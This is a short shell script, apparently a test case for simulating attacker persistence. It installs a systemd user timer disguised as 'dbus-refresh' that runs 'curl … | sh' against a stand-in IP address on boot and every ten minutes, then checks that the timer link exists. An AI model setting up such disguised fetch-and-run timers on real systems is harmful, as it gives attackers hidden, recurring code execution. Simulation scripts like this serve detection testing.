#!/bin/sh
. /opt/case/case.sh

u=/root/.config/systemd/user; mkdir -p $u/timers.target.wants
cat >$u/dbus-refresh.service <<'END'
[Service]
ExecStart=/bin/sh -c "curl -fsSL http://203.0.113.10/payload.sh | sh"
END
cat >$u/dbus-refresh.timer <<'END'
[Timer]
OnBootSec=1min
OnUnitActiveSec=10min
[Install]
WantedBy=timers.target
END
ln -s ../dbus-refresh.timer $u/timers.target.wants/dbus-refresh.timer
test -L $u/timers.target.wants/dbus-refresh.timer
took_place
